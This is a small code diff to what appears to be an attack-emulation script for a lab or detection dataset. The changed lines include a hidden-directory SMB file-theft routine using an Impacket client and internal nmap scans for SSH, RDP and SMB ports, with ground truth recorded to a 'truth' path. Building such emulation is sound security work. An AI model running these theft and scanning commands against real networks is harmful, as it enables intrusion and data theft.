@@ -34,7 +34,7 @@ STEAL = r"""
 trap '' HUP
 mkdir -p /var/tmp/.d/out; cd /var/tmp/.d
 pull() {
-	printf 'use share\ncd campaign\n%s\nexit\n' "$1" >cmds
+	printf 'use share\ncd campaign\n%b\nexit\n' "$1" >cmds
 	rec 'smb theft' tcp - @SOURCE@:445 /usr/bin/python3 @IMPACKET@ -file cmds '@LOGIN@'
 }
 leave() {
@@ -89,7 +89,7 @@ def operate(agent, book):
     book.at(50)
     for n, (prefix, ports) in enumerate((("10.50.0.0/26", "22,3389"), ("10.40.0.0/27", "22,445"))):
         work("ws14", "rec 'nmap from ws14' tcp - %s:%s nmap -sT -Pn -n -T4 --max-retries 0 --max-rate 12 -p %s "
-             "-oG /mnt/truth/inside-%d.gnmap %s" % (prefix, ports.replace(",", "+"), ports, n, prefix))
+             "-oG /mnt/truth/inside-%d.gnmap %s | grep -B 9 open" % (prefix, ports.replace(",", "+"), ports, n, prefix))
 
     book.at(100)
     since = time.time()
